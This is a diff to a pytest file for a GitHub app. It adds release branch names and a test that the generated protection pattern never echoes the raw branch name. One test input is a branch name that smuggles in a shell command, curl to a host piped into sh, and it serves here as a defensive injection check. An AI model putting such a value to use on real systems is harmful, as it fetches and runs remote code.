@@ -2,6 +2,7 @@
 
 import pytest
 
+from github_app.commands.protect import ref_pattern
 from github_app.judge.branches import BEGINNINGS, is_release, pattern_for
 from sandbox.rules import matches
 
@@ -14,6 +15,8 @@ RELEASES = [
     "stable/4.2.x",
     "stable-3",
     "stable-v3.1",
+    "release-1/x",
+    "stable-v3/fix/y",
 ]
 
 
@@ -22,6 +25,12 @@ def test_is_released_from(name: str) -> None:
     assert is_release(name)
     assert name.startswith(BEGINNINGS), "else GitHub is not asked for it"
     assert matches(pattern_for(name), name), "else protect does not hold it"
+    assert ref_pattern(pattern_for(name)), "else protect refuses what the doctor advises"
+
+
+def test_the_pattern_for_a_name_is_never_its_own_words() -> None:
+    assert pattern_for("release-1/x';curl${IFS}example.com|sh;'") == "release-[0-9]*/**/*"
+    assert not matches(pattern_for("release-1/x"), "release-notes/typo"), "a topic branch"
 
 
 @pytest.mark.parametrize(
